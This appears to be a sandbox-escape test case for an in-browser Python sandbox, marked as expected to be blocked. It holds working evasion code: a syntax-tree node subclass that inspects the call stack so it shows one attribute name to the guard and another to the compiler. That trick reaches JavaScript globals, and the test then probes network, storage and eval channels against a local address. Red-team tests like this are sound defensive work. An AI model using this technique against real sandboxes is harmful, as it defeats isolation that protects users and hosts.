# attack: compile() accepts a syntax tree; a node subclass whose attribute name is a property answers
# harmlessly while the guard's check_tree reads it and truthfully when the compiler reads it
# expect: blocked compiling a syntax tree is not available in the sandbox
import ast
import traceback

class Sneaky(ast.Attribute):
    @property
    def attr(self):
        reader = traceback.extract_stack()[-2].name
        return "upper" if reader == "check_tree" else self.hidden

    @attr.setter
    def attr(self, value):
        self.hidden = value

def sneaky_tree(source):
    # Parse with placeholder names (Xname), then hide the real names inside Sneaky nodes.
    class Hide(ast.NodeTransformer):
        def visit_Attribute(self, node):
            self.generic_visit(node)
            name = node.attr[1:] if node.attr.startswith("X") else node.attr
            return ast.copy_location(Sneaky(value=node.value, attr=name, ctx=node.ctx), node)
    return ast.fix_missing_locations(Hide().visit(ast.parse(source, mode="eval")))

expression = "os.sys.Xmeta_path[-1].find_spec.X__func__.X__globals__['jsfinder'].jsproxies['js']"
import os
G = eval(compile(sneaky_tree(expression), "<tree>", "eval"), {"os": os})
print("SANDBOX-ESCAPED", G)

def try_the_walls(G, tag):
    # Everything below must fail: the worker's scope is locked down and the CSP refuses eval.
    url = "http://127.0.0.1:4190/" + tag
    attempts = {
        "fetch": lambda: G.fetch(url),
        "XMLHttpRequest": lambda: G.XMLHttpRequest.new().open("GET", url),
        "WebSocket": lambda: G.WebSocket.new("ws://127.0.0.1:4190/" + tag),
        "importScripts": lambda: G.importScripts(url),
        "Worker": lambda: G.Worker.new(url),
        "indexedDB": lambda: G.indexedDB.open("sandpit-pwned"),
        "caches": lambda: G.caches.open("sandpit-pwned"),
        "import()": lambda: G.eval(f"import('{url}')"),
        "Function": lambda: G.Function(f"return fetch('{url}')")(),
    }
    for name, attempt in attempts.items():
        try:
            attempt()
            print(name, "went through")
        except Exception as error:
            print(name, "refused:", type(error).__name__)

try_the_walls(G, "lying-ast-node")
